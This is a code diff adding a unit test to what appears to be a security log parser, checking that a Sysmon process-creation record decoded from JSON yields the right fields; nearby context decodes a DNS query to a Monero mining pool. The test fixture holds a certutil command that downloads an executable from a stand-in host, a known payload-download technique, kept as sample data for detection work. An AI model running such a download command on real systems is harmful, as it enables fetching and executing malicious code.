@@ -291,3 +291,17 @@ test("Zeek dns.log is also the generic dns category", () => {
   const ev = decode("1700000000.0\txmr-eu1.nanopool.org", state);
   assert.deepEqual([ev.logsource?.product, ev.logsource?.categories, ev.logsource?.services], ["zeek", ["dns"], ["dns"]]);
 });
+
+test("Get-WinEvent records as ConvertTo-Json writes them: the log, provider and id, and a Sysmon message's fields", () => {
+  const ev = decode(JSON.stringify({
+    Message: "Process Create:\r\nRuleName: -\r\nProcessId: 4242\r\nImage: C:\\Windows\\System32\\certutil.exe\r\nCommandLine: certutil -urlcache -f http://x/a.exe",
+    Id: 1, RecordId: 77, ProviderName: "Microsoft-Windows-Sysmon", LogName: "Microsoft-Windows-Sysmon/Operational", MachineName: "ws07",
+    TimeCreated: "/Date(1772359200000)/", Properties: [{ Value: "-" }],
+  }));
+  assert.equal(ev.get("Image"), "C:\\Windows\\System32\\certutil.exe");
+  assert.equal(ev.get("CommandLine"), "certutil -urlcache -f http://x/a.exe");
+  assert.equal(ev.get("EventID"), 1);
+  assert.equal(ev.get("Computer"), "ws07");
+  assert.deepEqual([ev.logsource?.product, ev.logsource?.categories], ["windows", ["process_creation"]]);
+  assert.equal(ev.time, 1772359200000);
+});
